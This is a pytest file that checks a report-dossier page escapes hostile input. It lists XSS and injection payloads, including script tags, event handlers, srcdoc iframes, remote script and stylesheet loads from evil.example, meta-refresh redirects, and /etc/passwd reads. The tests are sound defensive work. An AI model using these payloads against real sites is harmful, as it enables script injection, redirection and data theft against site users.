"""Hostile reports: whatever a text, an address or a name holds, it reaches the page as words and never as markup."""

import base64
import dataclasses
import functools
import hashlib
import itertools
import re

import khirbet_ammu
import pytest
from page_parts import Page

from sayso import show
from sayso.show.document import web_address

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1><use href=//evil.example/x.svg#a></svg>",
    "</style><script src=//evil.example/a.js></script>",
    "</mark></blockquote></details><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '" autofocus onfocus="window.pwned=1" x="',
    "' onmouseover='window.pwned=1",
    "javascript:window.pwned=1",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{ dossier.__class__.__mro__ }}{% include '/etc/passwd' %}",
    "<!--<script>--><base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css><style>@import '//evil.example/b.css'</style>",
    "<form action=//evil.example><button formaction=javascript:pwned=1>x",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;b&#62;",
    "\u202e<b>txt.exe\u202c\u2066",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "]]><script>window.pwned=1</script><![CDATA[",
)
ALLOWED = (
    {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "script",
        "body",
        "header",
        "footer",
        "nav",
        "main",
        "section",
        "article",
    }
    | {"div", "details", "summary", "dialog", "p", "h1", "h2", "h3", "h4", "a", "ul", "ol", "li", "dl", "dt", "dd"}
    | {"table", "thead", "tbody", "tr", "th", "td", "b", "i", "em", "u", "q", "small", "span", "bdi", "mark", "code"}
    | {"blockquote", "button", "svg", "symbol", "use", "path", "circle", "rect", "g", "text", "tspan"}
)
# What sayso itself makes: ids, codes and enumerations, without which the dossier would not hang together.
KEPT = (
    {"id", "incident_id", "report_id", "claim_id", "origin_id", "left", "right", "of_report_id", "report_ids", "kind"}
    | {"claim_ids", "earlier_claim_ids", "origin_ids", "denied_by", "silent", "question", "status", "victim_class"}
    | {
        "polarity",
        "act",
        "scope",
        "how",
        "strength",
        "precision",
        "language",
        "first",
        "last",
        "published",
        "relations",
    }
)


def poisoned(value, payloads, key=""):
    """Return the value with every string that a report or a registry could bring in replaced by the next payload."""
    if key in KEPT:
        return value
    if value is None or isinstance(value, bool | int | float):
        return value
    if isinstance(value, str):
        return next(payloads) if key != "text" else value
    if isinstance(value, tuple):
        return tuple(poisoned(item, payloads, key) for item in value)
    fields = {
        field.name: poisoned(getattr(value, field.name), payloads, field.name) for field in dataclasses.fields(value)
    }
    return dataclasses.replace(value, **fields)


def hostile(*payloads):
    """Return the dossier on Khirbet Ammu, poisoned; every text holds the payloads inside each claim's words."""
    dossier = poisoned(khirbet_ammu.dossier(), itertools.cycle(payloads))
    payload = " ".join(payloads)
    size = len(payload)
    texts = {report.id: f"{payload} {payload} {payload}\n" * 3 for report in dossier.reports}

    def moved(span, n):
        start = (size + 1) * (n % 3) + n % max(1, size // 2)
        return dataclasses.replace(span, start=start, end=start + size, quote=texts["any"][start : start + size])

    texts["any"] = next(iter(texts.values()))
    claims = tuple(
        dataclasses.replace(
            claim,
            span=moved(claim.span, n),
            hedge=claim.hedge and dataclasses.replace(claim.hedge, span=moved(claim.hedge.span, n + 1)),
        )
        for n, claim in enumerate(dossier.claims)
    )
    reports = tuple(
        dataclasses.replace(report, text=texts[report.id], url=payloads[n % len(payloads)])
        for n, report in enumerate(dossier.reports)
    )
    return dataclasses.replace(dossier, claims=claims, reports=reports)


@functools.cache
def _clean():
    return Page(show.page(khirbet_ammu.dossier()))


@pytest.mark.parametrize("payloads", [*((payload,) for payload in PAYLOADS), PAYLOADS])
def test_no_payload_becomes_markup(payloads):
    clean = _clean()
    page = Page(show.page(hostile(*payloads)))
    assert {tag for tag, _ in page.tags} <= ALLOWED
    names = {name for _, values in page.tags for name in values}
    assert names <= {name for _, values in clean.tags for name in values} | {"rel", "target"}
    assert not [name for name in names if name.startswith("on") or name in {"style", "src", "srcdoc", "formaction"}]
    assert page.code == clean.code
    hrefs = {values["href"] for _, values in page.tags if "href" in values}
    assert all(href.startswith("#") for href in hrefs)
    assert sum(tag == "script" for tag, _ in page.tags) == sum(tag == "style" for tag, _ in page.tags) == 1
    assert sum(tag == "meta" for tag, _ in page.tags) == sum(tag == "meta" for tag, _ in clean.tags)


def test_the_payloads_are_still_shown_word_for_word():
    dossier = hostile(*PAYLOADS)
    page = Page(show.page(dossier))
    assert page.texts("div", class_="text") == [report.text for report in dossier.reports]


def test_only_the_pages_own_style_and_script_may_run():
    page = Page(show.page(khirbet_ammu.dossier()))
    metas = {values["http-equiv"]: values["content"] for _, values in page.tags if "http-equiv" in values}
    policy = metas["Content-Security-Policy"]

    def digest(kind):
        (code,) = page.code[kind]
        return base64.b64encode(hashlib.sha256(code.encode()).digest()).decode()

    assert policy == (
        f"default-src 'none'; style-src 'sha256-{digest('style')}'; script-src 'sha256-{digest('script')}';"
        " base-uri 'none'; form-action 'none'"
    )
    order = [values.get("http-equiv") or tag for tag, values in page.tags]
    assert order.index("Content-Security-Policy") < order.index("style")


def test_nothing_on_the_page_is_fetched():
    page = Page(show.page(khirbet_ammu.dossier()))
    assert not {"link", "img", "iframe", "object", "embed", "audio", "video", "base"} & {tag for tag, _ in page.tags}
    code = "".join(page.code["style"] + page.code["script"])
    assert not re.search(r"@import|url\(|fetch\(|XMLHttpRequest|sendBeacon|import\(", code)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example",
        "http:///nohost",
        "https://[bad",
        "http://a b.example",
        "ftp://host.example",
        "",
        None,
    ],
)
def test_an_address_that_is_not_plainly_web_is_no_link(address):
    assert web_address(address) == ""


def test_a_web_address_is_a_link_that_tells_nothing_of_the_reader():
    page = Page(show.page(khirbet_ammu.dossier()))
    links = [values for tag, values in page.tags if tag == "a" and not values["href"].startswith("#")]
    assert links
    for values in links:
        assert values["href"].startswith("https://")
        assert values["rel"] == "noopener noreferrer nofollow"
